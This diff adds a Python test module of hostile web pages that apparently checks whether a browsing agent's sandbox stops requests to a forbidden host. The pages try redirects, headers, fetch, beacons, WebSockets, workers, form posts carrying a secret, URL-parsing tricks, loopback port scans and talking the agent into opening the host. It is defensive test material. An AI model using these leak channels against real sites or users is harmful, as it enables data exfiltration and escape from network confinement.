@@ -1,0 +1,141 @@
+"""Pages that reach for the forbidden server: `FORBIDDEN` is its name, `DIRECT` its address and port."""
+
+from __future__ import annotations
+
+from typing import Any
+
+from tests.hostile.behaviours import BUTTON, SECURE, Behaviour, Serve, document
+from tests.hostile.server import Exchange
+
+
+def _answer(status: str, headers: dict[str, str], body: str = document(BUTTON)) -> Serve:
+    def serve(exchange: Exchange) -> None:
+        filled = {name: exchange.fill(value) for name, value in headers.items()}
+        exchange.send(body, status=status, headers=filled)
+
+    return serve
+
+
+def _hops(exchange: Exchange) -> None:
+    hops = int(exchange.path.strip("/") or 0)
+    target = f"/{hops + 1}" if hops < 5 else "http://FORBIDDEN/hops"
+    exchange.send("", status="302 Found", headers={"Location": target})
+
+
+def _worker(code: str) -> Serve:
+    """A page whose worker, at `/worker.js`, runs `code`."""
+
+    def serve(exchange: Exchange) -> None:
+        if exchange.path == "/worker.js":
+            exchange.send(code, kind="text/javascript")
+        elif exchange.path == "/service":
+            exchange.send(
+                document(BUTTON + "<script>navigator.serviceWorker.register('/worker.js')</script>")
+            )
+        else:
+            exchange.send(document(BUTTON + "<script>new Worker('/worker.js')</script>"))
+
+    return serve
+
+
+def _leak(name: str, about: str, serve: Serve | None = None, **options: Any) -> Behaviour:
+    settings: dict[str, Any] = {"leaks": True, "incidents": ("refused",), **options}
+    return Behaviour(name, about, serve, **settings)
+
+
+# Where the start page itself leads away the episode may end for want of a page.
+_AWAY: dict[str, Any] = {"outcomes": ("done", "unreachable")}
+
+LEAKS = (
+    _leak(
+        "redirect",
+        "302 to a forbidden host",
+        _answer("302 Found", {"Location": "http://FORBIDDEN/"}),
+        **_AWAY,
+    ),
+    _leak(
+        "redirect-address",
+        "307 to a loopback address",
+        _answer("307 x", {"Location": "http://DIRECT/"}),
+        **_AWAY,
+    ),
+    _leak("redirect-hops", "five redirects, then a forbidden host", _hops, **_AWAY),
+    _leak(
+        "refresh-header",
+        "Refresh header",
+        _answer("200 OK", {"Refresh": "0; url=http://FORBIDDEN/"}),
+        **_AWAY,
+    ),
+    _leak(
+        "link-header",
+        "Link header that preloads",
+        _answer("200 OK", {"Link": "<http://FORBIDDEN/x>; rel=preload; as=script"}),
+    ),
+    _leak(
+        "csp-report",
+        "violation report sent elsewhere",
+        _answer(
+            "200 OK",
+            {"Content-Security-Policy": "img-src 'none'; report-uri http://FORBIDDEN/report"},
+            document(BUTTON + "<img src=/a.png>"),
+        ),
+    ),
+    _leak("meta-refresh", "meta refresh", **_AWAY),
+    _leak("js-location", "location set by a script", **_AWAY),
+    _leak("late-location", "location set half a second later", plan=("wait 1", "look", "done"), **_AWAY),
+    _leak("form-post", "form that posts itself", **_AWAY),
+    _leak(
+        "form-action",
+        "button with a formaction elsewhere",
+        plan=("type 1 <secret>HOSTILE_PASSWORD</secret>", "click 2", "done"),
+    ),
+    _leak("fetch", "fetch without CORS"),
+    _leak("fetch-address", "fetch of numeric forms of loopback"),
+    _leak("xhr", "synchronous XMLHttpRequest"),
+    _leak("beacon", "sendBeacon"),
+    _leak("beacon-unload", "sendBeacon when the page is left", plan=("open HERE/other", "done")),
+    _leak("websocket", "WebSocket"),
+    _leak("websocket-address", "WebSocket to a loopback port"),
+    _leak("event-source", "EventSource"),
+    _leak("image", "picture"),
+    _leak("style", "style sheet, font and background"),
+    _leak("scripts", "script and module import"),
+    _leak("media", "video, audio and object"),
+    _leak("svg-image", "picture within an SVG"),
+    _leak("favicon", "icon of the page"),
+    _leak("iframe", "frame"),
+    _leak("iframe-nested", "frame in a frame without an address"),
+    _leak("iframe-top", "sandboxed frame that navigates the top", **_AWAY),
+    _leak("iframe-escape", "sandboxed frame that fetches and opens windows"),
+    _leak("prefetch", "preconnect, DNS prefetch, prefetch and preload"),
+    _leak("prerender", "speculation rules"),
+    _leak("worker", "fetch by a worker", _worker("fetch('http://FORBIDDEN/', {mode: 'no-cors'})")),
+    _leak(
+        "service-worker",
+        "fetch by a service worker",
+        _worker(
+            "addEventListener('install', (event) => "
+            "event.waitUntil(fetch('http://FORBIDDEN/install', {mode: 'no-cors'})))"
+        ),
+        start="/service",
+        domain=SECURE,
+    ),
+    _leak("window-open", "window opened by a click"),
+    _leak("link-blank", "link to a new tab"),
+    _leak("link-ping", "link that pings", incidents=(), leaks=False),
+    _leak("link-download", "link that downloads"),
+    _leak("link-javascript", "javascript: link"),
+    _leak("link-userinfo", "link with a user name that looks like the host"),
+    _leak("link-backslash", "link with a backslash before an @"),
+    _leak("link-address", "link to loopback in decimal"),
+    _leak("blob", "window at a blob: that fetches", **_AWAY),
+    _leak("data-frame", "frame at a data: that fetches"),
+    _leak(
+        "agent-goes",
+        "agent talked into opening it",
+        plan=("open http://FORBIDDEN/", "open http://DIRECT/", "done"),
+    ),
+    _leak("webrtc", "WebRTC servers"),
+    _leak("web-transport", "WebTransport", incidents=(), domain=SECURE),
+    _leak("port-scan", "fetches of a hundred loopback ports"),
+)
